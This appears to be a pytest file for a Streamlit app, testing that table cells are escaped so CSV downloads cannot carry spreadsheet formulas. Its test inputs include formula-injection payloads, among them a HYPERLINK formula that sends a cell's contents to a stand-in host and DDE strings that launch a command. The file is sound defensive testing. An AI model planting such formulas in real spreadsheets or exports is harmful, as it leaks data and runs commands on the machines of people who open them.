"""Every table's cells are inert: Streamlit's "Download as CSV" never hands Excel a formula.

Before, an officer could plant `=HYPERLINK(…)` or `+cmd|…` in a unit's contacts, and the CSV that
Streamlit's table toolbar offers carried it as is.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from pages import _ui
from tests.support.app import with_hostile_unit

ROOT = Path(__file__).resolve().parents[2]
PLANTED = '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        # a sign then a digit is still a formula for Excel unless the whole value is a number
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-1-1", "'-1-1"),
        ("+1e3+cmd|x", "'+1e3+cmd|x"),
        ('+1*HYPERLINK("http://x.example")', '\'+1*HYPERLINK("http://x.example")'),
        ("-1&A1", "'-1&A1"),
        ("+84 912 345 678\t=1", "'+84 912 345 678\t=1"),
        ("-cmd|x", "'-cmd|x"),
        ("+", "+"),
        ("-", "-"),
        # number- and phone-shaped values stay as they are
        ("+84 912 345 678", "+84 912 345 678"),
        ("+84912345678", "+84912345678"),
        ("+1 (555) 010-0199", "'+1 (555) 010-0199"),  # a dash inside: Excel computes it
        ("-5", "-5"),
        ("-1.234,5", "-1.234,5"),
        ("+(84) 912.345.678", "+(84) 912.345.678"),
        ("1.234,5", "1.234,5"),
        ("0912-345-678", "0912-345-678"),  # no sign in front: text for Excel
        ("Nguyễn Văn A", "Nguyễn Văn A"),
        ("", ""),
        (12, 12),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(typed, shown):
    assert _ui.inert_cell(typed) == shown


def test_a_formula_planted_in_a_units_secretary_reaches_the_table_inert(open_app, app_runtime):
    at, _ = with_hostile_unit(open_app, app_runtime, "upper", "pages/don_vi.py", secretary=PLANTED)
    cells = [str(v) for frame in at.dataframe for v in frame.value.to_numpy().ravel()]
    assert f"'{PLANTED}" in cells
    assert PLANTED not in cells


def test_no_screen_draws_a_table_except_through_the_inert_helper():
    calls = [
        f"{path.name}:{n}"
        for path in sorted((ROOT / "pages").glob("*.py"))
        if path.name != "_ui.py"
        for n, line in enumerate(path.read_text("utf-8").splitlines(), 1)
        if re.search(r"\bst\.(dataframe|table|data_editor)\(", line)
    ]
    assert calls == []
